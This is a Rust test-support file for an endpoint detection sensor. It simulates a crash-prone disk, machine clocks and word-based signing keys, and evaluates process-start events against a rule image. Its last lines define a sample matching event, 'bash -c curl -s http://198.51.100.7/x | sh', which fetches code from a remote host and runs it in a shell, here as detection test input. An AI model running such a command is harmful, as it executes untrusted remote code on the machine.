//! A device to test on: a disk that keeps what was synced and loses, tears and reorders what was not; clocks and boots that
//! say what they are told to; keys that are words; images that differ in their sequence alone.

use std::collections::BTreeMap;
use std::sync::{Arc, Mutex, MutexGuard, OnceLock};

use contentcheck_interpreter::{
    Capacity, Event, Input, Manifest, Scalar, Supply, Type, Value, Versioning, format, hash,
};
use contentcheck_sensor::{
    Advice, Authority, BootId, Ceilings, Claim, Config, Content, Digest, Directory, Disk, DiskError, Distrust, Ended,
    Place, Platform, Policy, Purpose, Reader, Rung, Sequence, Store, View,
};

include!("../../../../corpus/images/first/manifest.rs");

static SENSOR: Manifest<'static> = MANIFEST;

pub(crate) const POLICY: Policy = Policy {
    bake_seconds: 100,
    bake_events: 10,
    ceilings: Ceilings { least_events: 10, exhausted_per_million: 1_000, matches_per_million: 500_000 },
    ..Policy::DEFAULT
};

/// The image of `corpus/images/first`, as that of another release.
pub(crate) fn image(sequence: u64) -> Vec<u8> {
    let mut image = include_bytes!("../../../../corpus/images/first/rules.ccimage").to_vec();
    image[40..48].copy_from_slice(&sequence.to_le_bytes());
    let seal = hash::checksum(&image);
    image[24..32].copy_from_slice(&seal.to_le_bytes());
    image
}

pub(crate) fn content(sequence: u64) -> Content {
    static KNOWN: Mutex<BTreeMap<u64, Digest>> = Mutex::new(BTreeMap::new());
    let digest = *KNOWN.lock().unwrap().entry(sequence).or_insert_with(|| Digest::of(&image(sequence)));
    Content { digest, sequence: Sequence(sequence) }
}

pub(crate) fn factory() -> &'static [u8] {
    static FACTORY: OnceLock<Vec<u8>> = OnceLock::new();
    FACTORY.get_or_init(|| image(0))
}

pub(crate) fn envelope(key: &str, sequence: u64) -> Vec<u8> {
    format!("{key} {sequence} {}", content(sequence).digest).into_bytes()
}

/// Keys that are words: an envelope begins with the one that signed it.
#[derive(Clone, Debug)]
pub(crate) struct Keys {
    pub(crate) install: Vec<&'static str>,
    pub(crate) run: Vec<&'static str>,
}

impl Keys {
    fn count(&self, key: Option<&str>, purpose: Purpose) -> Result<(), Distrust> {
        let keys = if purpose == Purpose::Install { &self.install } else { &self.run };
        match key {
            Some(key) if keys.contains(&key) => Ok(()),
            _ => Err(Distrust::Signatures { found: 0, needed: 1 }),
        }
    }
}

impl Authority for Keys {
    fn claim(&self, envelope: &[u8], purpose: Purpose) -> Result<Claim, Distrust> {
        let text = std::str::from_utf8(envelope).map_err(|_| Distrust::Malformed)?;
        let mut words = text.split(' ');
        self.count(words.next(), purpose)?;
        let mut number = || words.next().and_then(|word| word.parse().ok());
        let sequence = Sequence(number().ok_or(Distrust::Malformed)?);
        let digest = words.next().and_then(Digest::from_hex).ok_or(Distrust::Malformed)?;
        let mut number = || words.next().and_then(|word| word.parse().ok());
        let (issued, install_until) = (number(), number());
        Ok(Claim { content: Content { digest, sequence }, issued, install_until })
    }

    fn kill_list(&self, _: &[u8], envelope: &[u8], purpose: Purpose) -> Result<(), Distrust> {
        self.count(std::str::from_utf8(envelope).ok(), purpose)
    }
}

/// A small generator that is the same everywhere.
#[derive(Clone, Debug)]
pub(crate) struct Dice(pub(crate) u64);

impl Dice {
    pub(crate) fn roll(&mut self, below: u64) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        (z ^ (z >> 31)) % below.max(1)
    }
}

#[derive(Clone, Debug)]
struct Node {
    now: Vec<u8>,
    synced: Vec<u8>,
}

#[derive(Clone, Debug)]
enum Pending {
    Link(Place, usize),
    Unlink(Place),
    Move(Place, Place, usize),
}

/// What is on a disk, and what is on its way there.
#[derive(Debug)]
pub(crate) struct Platter {
    nodes: Vec<Node>,
    names: BTreeMap<Place, usize>,
    kept: BTreeMap<Place, usize>,
    pending: Vec<Pending>,
    pub(crate) calls: usize,
    /// The call at which the power goes.
    pub(crate) cut: Option<usize>,
    pub(crate) is_dead: bool,
    /// Calls that fail: one of so many, by dice.
    pub(crate) fails: Option<(Dice, u64)>,
    /// The same from the next start on, for good.
    pub(crate) ages: Option<(Dice, u64)>,
    /// Which copy of the state was given, or said to be missing, when it was read at the last start. What a disk gives when the store is tidied
    /// comes too late.
    pub(crate) gave: [bool; 2],
    /// Whether anything else was asked for since: the state is read first.
    is_state_read: bool,
    /// The next call of this name fails.
    pub(crate) fail_next: Option<(&'static str, DiskError)>,
    pub(crate) read_only: bool,
    /// Nothing can be written now, for this reason; a disk that is copied on write answers so when it is full.
    pub(crate) refuses: Option<DiskError>,
    /// Bytes that all files together may have.
    pub(crate) room: Option<usize>,
    pub(crate) free: Option<u64>,
    locked: bool,
    pub(crate) log: Vec<String>,
}

/// A handle on a disk. Dropped, it lets go of the lock, as the system does for a process that is gone.
#[derive(Debug)]
pub(crate) struct Sim {
    pub(crate) platter: Arc<Mutex<Platter>>,
    has_lock: bool,
}

impl Drop for Sim {
    fn drop(&mut self) {
        if self.has_lock {
            self.platter.lock().unwrap().locked = false;
        }
    }
}

impl Sim {
    pub(crate) fn new(platter: &Arc<Mutex<Platter>>) -> Self {
        Self { platter: Arc::clone(platter), has_lock: false }
    }

    fn platter(&self) -> MutexGuard<'_, Platter> {
        self.platter.lock().unwrap()
    }

    /// What happens before a call: does it do its work, and is it the last?
    fn call(&self, name: &'static str, writes: bool, what: &str) -> Result<bool, DiskError> {
        let mut platter = self.platter();
        if platter.is_dead {
            return Err(DiskError::Other(std::io::ErrorKind::BrokenPipe));
        }
        if platter.fail_next.is_some_and(|(next, _)| next == name) {
            return Err(platter.fail_next.take().unwrap().1);
        }
        if writes && platter.read_only {
            return Err(DiskError::ReadOnly);
        }
        if let Some(error) = platter.refuses.filter(|_| writes) {
            return Err(error);
        }
        let is_bad = platter.fails.as_mut().is_some_and(|(dice, of)| dice.roll(*of) == 0);
        if is_bad {
            return Err(DiskError::Other(std::io::ErrorKind::Other));
        }
        if writes {
            platter.calls += 1;
            let line = format!("{name} {what}");
            platter.log.push(line);
            if platter.cut == Some(platter.calls) {
                platter.is_dead = true;
                return Ok(true);
            }
        }
        Ok(false)
    }

    fn done(is_last: bool) -> Result<(), DiskError> {
        if is_last { Err(DiskError::Other(std::io::ErrorKind::BrokenPipe)) } else { Ok(()) }
    }
}

impl Platter {
    fn used(&self) -> usize {
        self.names.values().map(|node| self.nodes[*node].now.len()).sum()
    }

    /// As much of the bytes as there is room for.
    fn fitting<'b>(&self, bytes: &'b [u8]) -> (&'b [u8], Result<(), DiskError>) {
        match self.room.map(|room| room.saturating_sub(self.used())) {
            Some(room) if room < bytes.len() => (&bytes[..room], Err(DiskError::Full)),
            _ => (bytes, Ok(())),
        }
    }

    fn keep(&mut self, pending: &Pending) {
        match pending {
            Pending::Link(place, node) => drop(self.kept.insert(place.clone(), *node)),
            Pending::Unlink(place) => drop(self.kept.remove(place)),
            Pending::Move(from, to, node) => {
                if self.kept.get(from) == Some(node) {
                    self.kept.remove(from);
                }
                self.kept.insert(to.clone(), *node);
            }
        }
    }

    /// The power was cut, and is back: of what was not synced, anything may be there, in any order.
    pub(crate) fn reboot(&mut self, dice: &mut Dice) {
        let mut pending = std::mem::take(&mut self.pending);
        while !pending.is_empty() {
            let at = dice.roll(pending.len() as u64) as usize;
            let one = pending.remove(at);
            if dice.roll(2) == 0 {
                self.keep(&one);
            }
        }
        for node in &mut self.nodes {
            if node.now == node.synced {
                continue;
            }
            node.now = match dice.roll(5) {
                0 => node.synced.clone(),
                1 => std::mem::take(&mut node.now),
                // What was written over where it lies is as long as before.
                2 if node.now.len() != node.synced.len() => {
                    node.now[..dice.roll(node.now.len() as u64 + 1) as usize].to_vec()
                }
                3 => vec![0; node.now.len()],
                _ => {
                    let mut torn = std::mem::take(&mut node.now);
                    let from = dice.roll(torn.len() as u64) as usize;
                    torn[from..].fill(0);
                    torn
                }
            };
            node.synced = node.now.clone();
        }
        self.names = self.kept.clone();
        self.restart();
    }

    /// The process is gone, and the system is not: everything is where it was.
    pub(crate) fn restart(&mut self) {
        (self.cut, self.is_dead, self.fail_next, self.calls) = (None, false, None, 0);
        self.fails = self.ages.clone();
        (self.gave, self.is_state_read) = ([false; 2], false);
        self.log.clear();
    }

    pub(crate) fn file(&mut self, path: &str) -> Option<&mut Vec<u8>> {
        let node = *self.names.iter().find(|(place, _)| place.to_string() == path)?.1;
        Some(&mut self.nodes[node].now)
    }

    /// Whether a file is on the disk as it is read: what a sync failed for is only on its way there, also for a process that starts later.
    pub(crate) fn is_kept(&self, path: &str) -> bool {
        let named = |names: &BTreeMap<Place, usize>| {
            names.iter().find(|(place, _)| place.to_string() == path).map(|(_, node)| *node)
        };
        let node = named(&self.names);
        node == named(&self.kept)
            && node.and_then(|node| self.nodes.get(node)).is_some_and(|node| node.now == node.synced)
    }

    /// Damages a file where it lies: for good, whatever becomes of the power.
    pub(crate) fn rot(&mut self, path: &str) {
        let Some((_, node)) = self.names.iter().find(|(place, _)| place.to_string() == path) else { return };
        let node = &mut self.nodes[*node];
        let at = node.now.len() / 2;
        if let Some(byte) = node.now.get_mut(at) {
            *byte ^= 0x40;
        }
        node.synced = node.now.clone();
    }

    pub(crate) fn lose(&mut self, path: &str) {
        self.names.retain(|place, _| place.to_string() != path);
        self.kept = self.names.clone();
        self.pending.clear();
    }

    pub(crate) fn paths(&self) -> Vec<String> {
        self.names.keys().map(ToString::to_string).collect()
    }

    /// All files, to be put back later, as a backup does.
    pub(crate) fn backup(&self) -> Vec<(Place, Vec<u8>)> {
        self.names.iter().map(|(place, node)| (place.clone(), self.nodes[*node].now.clone())).collect()
    }

    pub(crate) fn restore(&mut self, files: &[(Place, Vec<u8>)]) {
        self.nodes.clear();
        self.pending.clear();
        self.names.clear();
        for (place, bytes) in files {
            self.names.insert(place.clone(), self.nodes.len());
            self.nodes.push(Node { now: bytes.clone(), synced: bytes.clone() });
        }
        self.kept = self.names.clone();
    }
}

impl Disk for Sim {
    fn lock(&mut self) -> Result<bool, DiskError> {
        let mut platter = self.platter.lock().unwrap();
        if self.has_lock {
            return Ok(true);
        }
        if platter.read_only {
            return Err(DiskError::ReadOnly);
        }
        if platter.locked {
            return Ok(false);
        }
        platter.locked = true;
        self.has_lock = true;
        Ok(true)
    }

    fn make(&mut self) -> Result<(), DiskError> {
        Ok(())
    }

    fn list(&mut self, directory: Directory, most: usize) -> Result<Vec<String>, DiskError> {
        self.call("list", false, "")?;
        let platter = self.platter();
        let names = platter.names.keys().filter(|place| place.directory == directory);
        Ok(names.map(|place| place.name.clone()).take(most).collect())
    }

    fn read(&mut self, place: &Place, most: usize) -> Result<Vec<u8>, DiskError> {
        let copy = ["state.a", "state.b"].iter().position(|copy| *copy == place.to_string());
        self.platter().is_state_read |= copy.is_none();
        self.call("read", false, "")?;
        let mut platter = self.platter();
        if let Some(copy) = copy.filter(|_| !platter.is_state_read) {
            platter.gave[copy] = true;
        }
        let node = platter.names.get(place).ok_or(DiskError::Missing)?;
        let bytes = &platter.nodes[*node].now;
        if bytes.len() > most { Err(DiskError::Large) } else { Ok(bytes.clone()) }
    }

    fn write(&mut self, place: &Place, bytes: &[u8]) -> Result<(), DiskError> {
        let is_last = self.call("write", true, &place.to_string())?;
        let mut platter = self.platter();
        let (bytes, room) = platter.fitting(bytes);
        let bytes = if is_last { &bytes[..bytes.len() / 2] } else { bytes };
        let node = platter.nodes.len();
        platter.nodes.push(Node { now: bytes.to_vec(), synced: Vec::new() });
        if platter.names.insert(place.clone(), node).is_some() {
            platter.pending.push(Pending::Unlink(place.clone()));
        }
        platter.pending.push(Pending::Link(place.clone(), node));
        drop(platter);
        room.and_then(|()| Self::done(is_last))
    }

    fn overwrite(&mut self, place: &Place, bytes: &[u8]) -> Result<(), DiskError> {
        let is_last = self.call("overwrite", true, &place.to_string())?;
        let mut platter = self.platter();
        let node = *platter.names.get(place).ok_or(DiskError::Missing)?;
        let room = platter.room.map(|room| room.saturating_sub(platter.used()));
        let node = &mut platter.nodes[node];
        let grown = bytes.len().saturating_sub(node.now.len());
        let written = if is_last { bytes.len() / 2 } else { bytes.len() };
        let mut now = bytes[..written].to_vec();
        now.extend(node.now.iter().skip(written).take(bytes.len() - written));
        if room.is_some_and(|room| room < grown) {
            return Err(DiskError::Full);
        }
        node.now = now;
        drop(platter);
        Self::done(is_last)
    }

    fn writable(&mut self) -> Result<(), DiskError> {
        if self.platter().read_only { Err(DiskError::ReadOnly) } else { Ok(()) }
    }

    fn append(&mut self, place: &Place, bytes: &[u8]) -> Result<(), DiskError> {
        let Some(node) = self.platter().names.get(place).copied() else { return self.write(place, bytes) };
        let is_last = self.call("append", true, &place.to_string())?;
        let mut platter = self.platter();
        let (bytes, room) = platter.fitting(bytes);
        let bytes = if is_last { &bytes[..bytes.len() / 2] } else { bytes };
        platter.nodes[node].now.extend_from_slice(bytes);
        drop(platter);
        room.and_then(|()| Self::done(is_last))
    }

    fn sync(&mut self, place: &Place) -> Result<(), DiskError> {
        let is_last = self.call("sync", true, &place.to_string())?;
        let mut platter = self.platter();
        let node = *platter.names.get(place).ok_or(DiskError::Missing)?;
        if !is_last {
            let node = &mut platter.nodes[node];
            node.synced = node.now.clone();
        }
        drop(platter);
        Self::done(is_last)
    }

    fn rename(&mut self, from: &Place, to: &Place) -> Result<(), DiskError> {
        let is_last = self.call("rename", true, &to.to_string())?;
        let mut platter = self.platter();
        let node = platter.names.remove(from).ok_or(DiskError::Missing)?;
        platter.names.insert(to.clone(), node);
        platter.pending.push(Pending::Move(from.clone(), to.clone(), node));
        drop(platter);
        Self::done(is_last)
    }

    fn sync_directory(&mut self, directory: Directory) -> Result<(), DiskError> {
        let is_last = self.call("sync_directory", true, directory.path())?;
        let mut platter = self.platter();
        if !is_last {
            let (here, elsewhere): (Vec<_>, Vec<_>) =
                std::mem::take(&mut platter.pending).into_iter().partition(|pending| match pending {
                    Pending::Link(place, _) | Pending::Unlink(place) | Pending::Move(_, place, _) => {
                        place.directory == directory
                    }
                });
            here.iter().for_each(|pending| platter.keep(pending));
            platter.pending = elsewhere;
        }
        drop(platter);
        Self::done(is_last)
    }

    fn remove(&mut self, place: &Place) -> Result<(), DiskError> {
        let is_last = self.call("remove", true, &place.to_string())?;
        let mut platter = self.platter();
        platter.names.remove(place).ok_or(DiskError::Missing)?;
        platter.pending.push(Pending::Unlink(place.clone()));
        drop(platter);
        Self::done(is_last)
    }

    fn free(&mut self) -> Result<Option<u64>, DiskError> {
        Ok(self.platter().free)
    }
}

#[derive(Clone, Debug)]
pub(crate) struct Machine {
    pub(crate) boot: Option<BootId>,
    pub(crate) ended: Ended,
    /// Whether it can be marked as accounted for.
    pub(crate) can_settle: bool,
    pub(crate) wall: Option<u64>,
    pub(crate) elapsed: Option<u64>,
    pub(crate) floor: Option<Sequence>,
    pub(crate) raised: Sequence,
    pub(crate) hardware: Option<Digest>,
    pub(crate) nonce: Option<Digest>,
}

#[derive(Clone, Debug)]
pub(crate) struct SimMachine(pub(crate) Arc<Mutex<Machine>>);

impl Platform for SimMachine {
    fn boot(&mut self) -> Option<BootId> {
        self.0.lock().unwrap().boot
    }

    fn ended(&mut self) -> Ended {
        self.0.lock().unwrap().ended
    }

    fn can_settle(&mut self) -> bool {
        self.0.lock().unwrap().can_settle
    }

    fn wall(&mut self) -> Option<u64> {
        self.0.lock().unwrap().wall
    }

    fn elapsed(&mut self) -> Option<u64> {
        self.0.lock().unwrap().elapsed
    }

    fn floor(&mut self) -> Option<Sequence> {
        self.0.lock().unwrap().floor
    }

    fn raise_floor(&mut self, floor: Sequence) {
        self.0.lock().unwrap().raised = floor;
    }

    fn hardware(&mut self) -> Option<Digest> {
        self.0.lock().unwrap().hardware
    }

    fn nonce(&mut self) -> Option<Digest> {
        self.0.lock().unwrap().nonce
    }
}

pub(crate) type Device = Store<Sim, SimMachine, Keys>;

/// A device, with everything that can happen to it.
pub(crate) struct World {
    pub(crate) platter: Arc<Mutex<Platter>>,
    pub(crate) machine: Arc<Mutex<Machine>>,
    pub(crate) keys: Keys,
    pub(crate) config: Config,
    pub(crate) dice: Dice,
}

impl World {
    pub(crate) fn new() -> Self {
        let platter = Platter {
            nodes: Vec::new(),
            names: BTreeMap::new(),
            kept: BTreeMap::new(),
            pending: Vec::new(),
            calls: 0,
            cut: None,
            is_dead: false,
            fails: None,
            ages: None,
            gave: [false; 2],
            is_state_read: false,
            fail_next: None,
            read_only: false,
            refuses: None,
            room: None,
            free: None,
            locked: false,
            log: Vec::new(),
        };
        let machine = Machine {
            boot: Some(BootId([1; 16])),
            ended: Ended::Stopped,
            can_settle: true,
            wall: Some(1_800_000_000),
            elapsed: Some(0),
            floor: None,
            raised: Sequence(0),
            hardware: None,
            nonce: None,
        };
        Self {
            platter: Arc::new(Mutex::new(platter)),
            machine: Arc::new(Mutex::new(machine)),
            keys: Keys { install: vec!["release"], run: vec!["release"] },
            config: Config {
                factory: Some(factory()),
                policy: POLICY.sound().unwrap(),
                ..Config::new(&SENSOR, Digest::of(b"build 1"), 1_700_000_000)
            },
            dice: Dice(1),
        }
    }

    pub(crate) fn platter(&self) -> MutexGuard<'_, Platter> {
        self.platter.lock().unwrap()
    }

    pub(crate) fn machine(&self) -> MutexGuard<'_, Machine> {
        self.machine.lock().unwrap()
    }

    pub(crate) fn open(&self) -> Device {
        Store::open(self.config, Sim::new(&self.platter), SimMachine(Arc::clone(&self.machine)), self.keys.clone())
    }

    /// The process is gone, as it is said to be, and starts again.
    pub(crate) fn restart(&self, device: Device, ended: Ended) -> Device {
        drop(device);
        self.platter().restart();
        self.machine().ended = ended;
        self.machine().elapsed = Some(0);
        self.open()
    }

    /// The power is cut, and comes back.
    pub(crate) fn power_cut(&mut self, device: Device) -> Device {
        drop(device);
        self.come_back();
        self.open()
    }

    pub(crate) fn come_back(&mut self) {
        let mut dice = self.dice.clone();
        self.platter().reboot(&mut dice);
        self.dice = dice;
        let mut machine = self.machine();
        let boot = machine.boot.map_or(0, |boot| boot.0[0]).wrapping_add(1);
        (machine.boot, machine.ended, machine.elapsed) = (Some(BootId([boot; 16])), Ended::Unexplained, Some(0));
    }

    /// A healthy run, as long as it must be.
    pub(crate) fn bake(&self, device: &mut Device) {
        evaluate(&mut device.reader(), 20);
        let mut machine = self.machine();
        machine.elapsed = machine.elapsed.map(|elapsed| elapsed + 101);
        drop(machine);
        assert_eq!(device.check(), Advice::GoOn);
    }

    /// A device on which these have been confirmed, one after the other.
    pub(crate) fn with_good(&self, sequences: &[u64]) -> Device {
        let mut device = self.open();
        for sequence in sequences {
            device.offer(&image(*sequence), &envelope("release", *sequence)).unwrap();
            self.bake(&mut device);
            device = self.restart(device, Ended::Stopped);
            self.bake(&mut device);
            assert_eq!(runs(&device), (Rung::Good, *sequence));
        }
        device
    }
}

/// What a device runs, by its readers.
pub(crate) fn runs(device: &Device) -> (Rung, u64) {
    let mut reader = device.reader();
    let view = reader.view();
    (view.rung(), view.content().map_or(0, |content| content.sequence.0))
}

/// Evaluates events that match nothing, and says how many were not evaluated.
pub(crate) fn evaluate(reader: &mut Reader, events: usize) -> usize {
    (0..events).filter(|_| evaluate_one(reader, "/bin/true", 1_000_000).is_none()).count()
}

/// Evaluates an event; the rules that match.
pub(crate) fn evaluate_one(reader: &mut Reader, command_line: &str, budget: u64) -> Option<Vec<String>> {
    let mut found = Vec::new();
    evaluate_by(&mut reader.view(), command_line, budget, |title| found.push(title.to_owned()))?;
    Some(found)
}

/// Evaluates an event; `each` is given the title of each rule that matches.
pub(crate) fn evaluate_by(
    view: &mut View<'_>,
    command_line: &str,
    budget: u64,
    mut each: impl FnMut(&str),
) -> Option<()> {
    let values =
        [Value::Int(1), Value::from("/bin/bash"), Value::from(command_line), Value::Absent, Value::Split(b"bash\0", 0)];
    let header = [Value::from("host")];
    let number = *view.templates_named("edr.process_start").first()?;
    let event = Event { inputs: &values, header: &header, others: &[] };
    view.evaluate(number, event, budget, |rule| each(rule.title)).ok().map(drop)
}

pub(crate) const MATCHING: &str = "bash -c curl -s http://198.51.100.7/x | sh";

pub(crate) fn told(device: &Device) -> String {
    device.evidence().map(|record| format!("{}\n", record.what)).collect()
}
